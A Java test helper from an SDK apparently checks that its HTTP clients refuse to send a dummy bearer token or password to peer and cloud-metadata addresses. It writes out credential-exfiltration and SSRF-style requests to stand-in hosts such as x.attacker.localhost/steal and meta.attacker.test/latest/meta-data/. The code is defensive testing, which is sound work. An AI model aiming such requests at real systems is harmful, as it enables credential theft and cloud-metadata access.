package io.delpha.sdk.core.internal.http;

import io.delpha.sdk.core.ResponseLimitException;
import io.delpha.sdk.core.ResponseLimits;
import io.delpha.sdk.core.RetryPolicy;
import io.delpha.sdk.core.Secret;
import io.delpha.sdk.core.internal.Retrier;
import io.delpha.sdk.salesforce.SalesforceManager;
import io.delpha.sdk.sharing.DeltaSharingClient;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.Arrays;

/**
 * The child JVM of {@link PeerIdentityTest#namesAreJudgedByWhatTheyResolveTo}: its hosts file ({@code
 * -Djdk.net.hosts.file}) answers {@code x.attacker.localhost} with a non-loopback address of this machine where a
 * peer listens, and {@code meta.attacker.test} with {@code 169.254.169.254}, as a peer's DNS would. It prints one line
 * per attempt: {@code RESOLVES}, {@code CONTROL <status>} (a request without a credential, to show the name leads to
 * the peer), then {@code <surface> <exception> <limit>} for each attack.
 */
public final class PeerIdentityChild {

  static final String TOKEN = "dapi-child-identity-0123456789";

  private PeerIdentityChild() {}

  public static void main(String[] args) throws Exception {
    int port = Integer.parseInt(args[0]);
    System.out.println("RESOLVES " + Arrays.toString(InetAddress.getAllByName("x.attacker.localhost")));
    HttpCaller plain = new HttpCaller(HttpCaller.newClient(Duration.ofSeconds(5), HttpClient.Redirect.NEVER, null),
        "the peer", Duration.ofSeconds(10), Retrier.of(RetryPolicy.builder().maxAttempts(1).build()),
        ResponseLimits.builder().credentialsOverPlainHttp(true).build());
    HttpResponse<InputStream> control = plain.send("GET /control",
        plain.request(URI.create("http://x.attacker.localhost:" + port + "/control")).GET().build(),
        HttpResponse.BodyHandlers.ofInputStream());
    control.body().close();
    System.out.println("CONTROL " + control.statusCode());
    attempt("SHARING", () -> {
      try (DeltaSharingClient c = DeltaSharingClient.builder()
          .endpoint(URI.create("http://x.attacker.localhost:" + port + "/steal/")).bearerToken(Secret.of(TOKEN))
          .build()) {
        c.listShares();
      }
    });
    attempt("SALESFORCE", () -> SalesforceManager.builder().loginUrl("http://x.attacker.localhost:" + port)
        .clientId("c").clientSecret("s").username("u@example.com").password(TOKEN).securityToken("t").build().close());
    HttpCaller storage = new HttpCaller(HttpCaller.newClient(Duration.ofSeconds(5), HttpClient.Redirect.NEVER, null),
        "the table's storage", Duration.ofSeconds(10), Retrier.of(RetryPolicy.builder().maxAttempts(1).build()),
        ResponseLimits.defaults());
    attempt("STORAGE", () -> storage.sendFollowingRedirects("download",
        storage.request(URI.create("http://meta.attacker.test:" + port + "/steal")).GET().build()));
    attempt("STORAGE_HTTPS", () -> storage.sendFollowingRedirects("download",
        storage.request(URI.create("https://meta.attacker.test/latest/meta-data/")).GET().build()));
  }

  private static void attempt(String surface, Runnable attack) {
    try {
      attack.run();
      System.out.println(surface + " SENT");
    } catch (ResponseLimitException e) {
      System.out.println(surface + " " + e.getClass().getSimpleName() + " " + e.limit());
    } catch (RuntimeException e) {
      System.out.println(surface + " " + e.getClass().getSimpleName() + " "
          + (String.valueOf(e.getMessage()).contains(TOKEN) ? "LEAKED" : "-"));
    }
  }
}
